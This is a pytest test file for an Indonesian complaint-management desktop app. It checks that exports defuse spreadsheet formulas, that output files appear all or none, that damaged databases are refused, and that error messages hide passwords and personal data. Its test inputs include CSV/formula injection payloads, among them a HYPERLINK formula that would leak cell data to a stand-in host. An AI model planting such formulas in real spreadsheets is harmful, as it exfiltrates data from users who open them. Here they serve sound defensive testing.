"""Issue 10, items 4, 6 and 7 at the core: damaged or foreign database files are refused and
left untouched, exports are data and never formulas, files appear all or none, and no error
message carries a password or personal data."""

from __future__ import annotations

import csv
import hashlib
import io
import os
import sqlite3
import zipfile
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine, create_engine, text, update
from sqlalchemy.exc import DBAPIError

from pengaduan_desktop.core import db_health
from pengaduan_desktop.core.db import DatabaseDamaged, SchemaTooNew, create_db_engine, writing
from pengaduan_desktop.core.db_refusals import scrubbed_report
from pengaduan_desktop.core.errors import InvalidValue, NotFound, user_message
from pengaduan_desktop.core.exports import csv_file, xlsx_file
from pengaduan_desktop.core.files import publish_all
from pengaduan_desktop.core.intake import register
from pengaduan_desktop.core.models import Complainant, Complaint
from pengaduan_desktop.core.monthly import Month, MonthFigures, month_figures
from pengaduan_desktop.core.schema import SCHEMA_HEAD, current_revision, init_database
from pengaduan_desktop.core.spreadsheet import csv_value
from pengaduan_desktop.core.text import without_controls
from pengaduan_desktop.core.timeutil import LOCAL_TZ
from tests.helpers import VALID_NIK, complaint

HYPERLINK = '=HYPERLINK("http://x/?leak="&A1,"klik")'
HOSTILE = [HYPERLINK, "+62 812 1111 2222", "-1+1", "@SUM(A1:A9)", "\tTab di depan",
           "\rCR di depan", "=1+1\x07 lonceng", "Nama\x1b dengan \x01 kendali"]  # fmt: skip
MAY = Month(2026, 5)


# --- item 6: exports are data ------------------------------------------------------------


def _hostile_month(engine: Engine) -> list[str]:
    """One complaint in May 2026 per hostile name (the name and the summary both hostile);
    written by SQL, as an older version or an import may have stored them."""
    for day, name in enumerate(HOSTILE, start=4):
        saved = register(engine, complaint(received_at=datetime(2026, 5, day, 9, tzinfo=LOCAL_TZ)))
        with writing(engine) as session:
            person = session.get(Complaint, saved.id).complainant_id
            session.execute(update(Complainant).where(Complainant.id == person).values(name=name))
            session.execute(update(Complaint).where(Complaint.id == saved.id)
                            .values(summary=name, complainant_name=name))  # fmt: skip
    return HOSTILE


def _cleaned(value: str) -> str:
    return without_controls(value)  # a run of controls becomes one space (tests/unit/test_text)


def test_hostile_names_export_as_text(engine: Engine, tmp_path: Path) -> None:
    names = _hostile_month(engine)
    figures = month_figures(engine, MAY)
    data = xlsx_file(figures)  # a control character no longer breaks the month's file
    book = load_workbook(io.BytesIO(data))
    sheet = book["Pengaduan"]
    header = [c.value for c in sheet[1]]
    rows = [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
    assert len(rows) == len(names)
    for row in rows:
        for cell in row.values():
            assert cell.data_type != "f", cell.value
    shown = {r["Pengadu"].value for r in rows}
    # Still readable, control characters gone (openpyxl's reader drops the leading tab that
    # the sheet keeps: checked in the XML below).
    assert shown == {_cleaned(n).strip() for n in names}
    assert HYPERLINK in shown
    link = next(r["Pengadu"] for r in rows if r["Pengadu"].value == HYPERLINK)
    assert link.quotePrefix and link.data_type == "s"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        xml = "".join(archive.read(n).decode() for n in sheets)
    assert "<f>" not in xml and "<f " not in xml
    assert 't="inlineStr"' in xml and "HYPERLINK" in xml and "\tTab di depan" in xml

    for delimiter in (",", ";"):
        body = csv_file(figures, delimiter).decode("utf-8-sig")
        table = list(csv.reader(io.StringIO(body), delimiter=delimiter))
        assert table[0][:5] == ["Kelompok", "Nomor", "ID SP4N-LAPOR!", "Diterima", "Pengadu"]
        people = {line[4] for line in table[1:]}
        assert "'" + HYPERLINK in people and "'+62 812 1111 2222" in people
        assert "'-1+1" in people and "'@SUM(A1:A9)" in people and "Tab di depan" in people
        assert "'=1+1 lonceng" in people and "Nama dengan kendali" in people
        subjects = {line[8] for line in table[1:]}  # "Perihal": not stripped like a name
        assert "'\tTab di depan" in subjects and "'" + HYPERLINK in subjects
        assert "CR di depan" in subjects  # the CR is a control character: removed
        assert all(len(line) == len(table[0]) for line in table)
        for line in table[1:]:
            assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in line), line


def test_a_cell_is_defused_only_when_it_starts_like_a_formula() -> None:
    assert csv_value("Siti = Aminah") == "Siti = Aminah"
    assert csv_value("=A1") == "'=A1"
    assert csv_value("\x1b=A1") == "'=A1"  # the control character first, then the check
    assert csv_value(-5) == -5 and csv_value(None) == ""
    with pytest.raises(InvalidValue):
        csv_file(MonthFigures(MAY), "|")


# --- item 7: all or none -------------------------------------------------------------------


def _state(folder: Path, visible: bool = False) -> dict[str, bytes]:
    """The folder's files; `visible`: without the hidden temporary files being written."""
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())
            if p.is_file() and not (visible and p.name.startswith("."))}  # fmt: skip


def test_files_appear_all_or_none(tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "laporan.pdf").write_bytes(b"PDF lama")
    (out / "data.csv").write_bytes(b"CSV lama")
    (out / "folder.xlsx").mkdir()  # the second target cannot be replaced: a folder
    before = _state(out)
    with pytest.raises(IsADirectoryError):
        publish_all([(out / "laporan.pdf", b"PDF baru"), (out / "folder.xlsx", b"XLSX"),
                     (out / "data.csv", b"CSV baru")])  # fmt: skip
    assert _state(out) == before  # the first file was put back, no temporary file is left
    with pytest.raises(NotFound):
        publish_all([(out / "laporan.pdf", b"PDF baru"), (tmp_path / "tidak" / "x.csv", b"")])
    assert _state(out) == before

    def refused() -> None:  # the database step fails: e.g. a read-only database
        raise RuntimeError("basis data hanya dapat dibaca")

    with pytest.raises(RuntimeError):
        publish_all([(out / "laporan.pdf", b"PDF baru"), (out / "baru.xlsx", b"X")], refused)
    assert _state(out) == before
    seen: list[dict[str, bytes]] = []
    publish_all([(out / "laporan.pdf", b"PDF baru"), (out / "baru.xlsx", b"X")],
                lambda: seen.append(_state(out, visible=True)))  # fmt: skip
    assert seen == [before]  # nothing is visible before the database step has committed
    assert _state(out) == {"baru.xlsx": b"X", "data.csv": b"CSV lama", "laporan.pdf": b"PDF baru"}
    assert oct((out / "baru.xlsx").stat().st_mode & 0o777) == "0o600"


@pytest.mark.parametrize("month", ["0001-01", "1999-12", "2028-01", "9999-12"])
def test_a_month_out_of_range_is_refused(month: str) -> None:
    with pytest.raises(InvalidValue, match="di luar jangkauan"):
        Month.parse(month)
    assert Month.parse("2027-12") == Month(2027, 12) and Month.parse("2000-01").year == 2000


# --- item 4: damaged, foreign and newer databases -------------------------------------------


def _fingerprint(path: Path) -> tuple[str, int, list[str]]:
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    return digest, path.stat().st_mtime_ns, sorted(p.name for p in path.parent.iterdir())


def _healthy(path: Path) -> Path:
    engine = create_db_engine(f"sqlite:///{path}")
    init_database(engine)
    engine.dispose()
    return path


def damage_file(path: Path, how: str) -> None:
    data = bytearray(path.read_bytes())
    if how == "terpotong":
        path.write_bytes(bytes(data[: len(data) // 3]))
    elif how == "pdf":
        path.write_bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\n" * 20)
    elif how == "teks":
        path.write_text("Ini catatan rapat, bukan basis data.\n" * 50, encoding="utf-8")
    elif how == "rusak":  # the schema's page and what follows overwritten
        data[100:20_000] = bytes((i * 37) % 251 for i in range(19_900))
        path.write_bytes(bytes(data))
    elif how == "lain":  # another program's SQLite database
        path.unlink()
        conn = sqlite3.connect(path)
        conn.execute("CREATE TABLE catatan (isi TEXT)")
        conn.commit()
        conn.close()
    elif how == "baru":  # upgraded by a newer version of the program
        conn = sqlite3.connect(path)
        conn.execute("UPDATE alembic_version SET version_num = '0099'")
        conn.commit()
        conn.close()


@pytest.mark.parametrize(
    ("how", "error", "words"),
    [("terpotong", DatabaseDamaged, "terpotong"), ("pdf", DatabaseDamaged, "bukan basis data"),
     ("teks", DatabaseDamaged, "bukan basis data"), ("rusak", DatabaseDamaged, "rusak"),
     ("lain", DatabaseDamaged, "program lain"), ("baru", SchemaTooNew, "revisi skema 0099")],
)  # fmt: skip
def test_a_damaged_file_is_refused_and_left_untouched(
    tmp_path: Path, how: str, error: type[Exception], words: str
) -> None:
    path = _damage_ready(tmp_path, how)
    before = _fingerprint(path)
    with pytest.raises(error) as caught:
        create_db_engine(f"sqlite:///{path}")
    message = str(caught.value)
    assert str(path) in message and words in message and "\n" not in message
    assert _fingerprint(path) == before  # same bytes, same mtime, no -wal, -shm or journal


def damage_table(path: Path, table: str) -> None:
    """Overwrite the first page of `table` with bytes that are no kind of page SQLite knows."""
    conn = sqlite3.connect(path)
    root = conn.execute("SELECT rootpage FROM sqlite_master WHERE name = ?", (table,)).fetchone()
    size = conn.execute("PRAGMA page_size").fetchone()[0]
    conn.close()
    with path.open("r+b") as handle:
        handle.seek((root[0] - 1) * size)
        handle.write(b"\x07\xff\xff\xff" * (size // 4))


def _damage_ready(tmp_path: Path, how: str) -> Path:
    path = _healthy(tmp_path / f"{how}.db")
    damage_file(path, how)
    return path


def test_an_empty_file_is_a_new_database(tmp_path: Path) -> None:
    path = tmp_path / "kosong.db"
    path.touch()
    engine = create_db_engine(f"sqlite:///{path}")
    init_database(engine)
    assert current_revision(engine) == SCHEMA_HEAD
    engine.dispose()


def test_a_newer_revision_is_refused_on_every_engine(db_url: str) -> None:
    engine = create_db_engine(db_url)
    init_database(engine)
    with engine.begin() as conn:
        conn.execute(text("UPDATE alembic_version SET version_num = '0099'"))
    engine.dispose()
    opened: list[Engine] = []
    with pytest.raises(SchemaTooNew, match="revisi skema 0099"):
        opened.append(create_db_engine(db_url))  # on SQLite refused here already
        init_database(opened[0])  # on PostgreSQL here, before any migration
    for again in opened:
        again.dispose()
    plain = create_engine(db_url.replace("postgresql://", "postgresql+psycopg://"))
    assert current_revision(plain) == "0099"  # no migration was attempted
    plain.dispose()


def test_damage_found_later_is_named_as_damage(tmp_path: Path) -> None:
    """A page damaged deep in the file shows only when it is read: SQLite's "malformed" then
    becomes the same refusal (core.db_health.damage_in, used by the command line)."""
    path = _healthy(tmp_path / "dalam.db")
    damage_table(path, "audit_entry")
    engine = create_db_engine(f"sqlite:///{path}")  # the header and the schema are sound
    init_database(engine)
    with pytest.raises(DBAPIError) as caught, engine.connect() as c:
        c.execute(text("SELECT * FROM audit_entry")).all()
    engine.dispose()
    assert db_health.is_damage(caught.value)
    assert "rusak" in (user_message(caught.value) or "")
    assert str(path) in str(db_health.damage_in(caught.value, str(path)))


# --- no password, no personal data ------------------------------------------------------------


def test_a_refused_write_names_no_personal_data(engine: Engine) -> None:
    """PostgreSQL quotes the row ("Failing row contains (…)"); SQLite names only the column
    and stores a long text (the importer checks lengths: item 5)."""
    if engine.dialect.name == "sqlite":
        pytest.skip("SQLite's messages name no values")
    phone, address = "081299887766", "Jl. Rahasia Nomor 17, Pontianak"
    statements = [  # too long a name (DataError on PostgreSQL), and no name at all (NOT NULL)
        ("x" * 300, VALID_NIK, phone, address),
        (None, VALID_NIK, phone, address),
    ]
    for values in statements:
        with pytest.raises(DBAPIError) as caught, engine.begin() as conn:
            name, nik, phone_number, where = values
            conn.execute(text("INSERT INTO complainant (name, id_type, id_number, address, phone, "
                              "phone_typed, email) VALUES (:n, 'KTP', :nik, :a, :p, :p, '')"),
                         {"n": name, "nik": nik, "a": where, "p": phone_number})  # fmt: skip
        message = user_message(caught.value)
        report = scrubbed_report(caught.value)
        assert message and message.startswith("data tidak dapat disimpan"), message
        for secret in (VALID_NIK, phone, address):
            assert secret not in message and secret not in report
        assert "\n" not in message


def test_an_address_hides_its_password() -> None:
    assert db_health.without_password("postgresql://andi:S4ndi@rahasia@db/x") == (
        "postgresql://andi:***@db/x"
    )
    with pytest.raises(Exception) as caught:
        create_db_engine("postgresql://andi:S4ndiRahasia@db:notaport/x")
    assert "S4ndiRahasia" not in str(caught.value)


def test_a_read_only_database_says_so(tmp_path: Path) -> None:
    path = _healthy(tmp_path / "baca.db")
    engine = create_db_engine(f"sqlite:///file:{path}?mode=ro&uri=true")
    with pytest.raises(DBAPIError) as caught, writing(engine) as session:
        session.execute(text("DELETE FROM calendar_override"))
    engine.dispose()
    assert user_message(caught.value) == "basis data hanya dapat dibaca; tidak ada yang diubah"
    assert os.path.getsize(path) > 0
